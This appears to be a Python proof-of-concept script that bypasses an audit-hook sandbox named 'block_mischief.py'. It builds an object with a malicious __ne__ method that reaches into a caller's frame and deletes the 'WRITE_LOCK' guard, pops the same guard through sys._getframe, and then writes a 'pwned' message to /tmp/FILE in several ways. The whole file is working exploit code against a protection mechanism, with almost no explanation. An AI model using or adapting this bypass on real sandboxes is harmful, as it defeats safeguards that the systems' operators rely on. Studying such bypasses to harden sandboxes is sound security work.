# The break of the hook in block_mischief.py, by a lying __ne__ in an event, as it was published; and some ways more.
import sys


def r(a, b):
    try:
        raise Exception()
    except Exception:
        del sys.exc_info()[2].tb_frame.f_back.f_globals['WRITE_LOCK']


w = type('evil', (object,), {'__ne__': r})()
attempts = [
    lambda: sys.audit('open', None, w),
    lambda: open('/tmp/FILE', 'w').write('pwned by l33t h4xx0rz'),
    lambda: sys._getframe(1).f_globals.pop('WRITE_LOCK', None),
    lambda: open('/tmp/FILE', 'a').write('pwned by l33t h4xx0rz'),
    lambda: exec("open('/tmp/FILE', 'w').write('pwned by l33t h4xx0rz')", {}),
]
for attempt in attempts:
    try:
        attempt()
    except Exception as e:
        print(f'{type(e).__name__}: {e}')
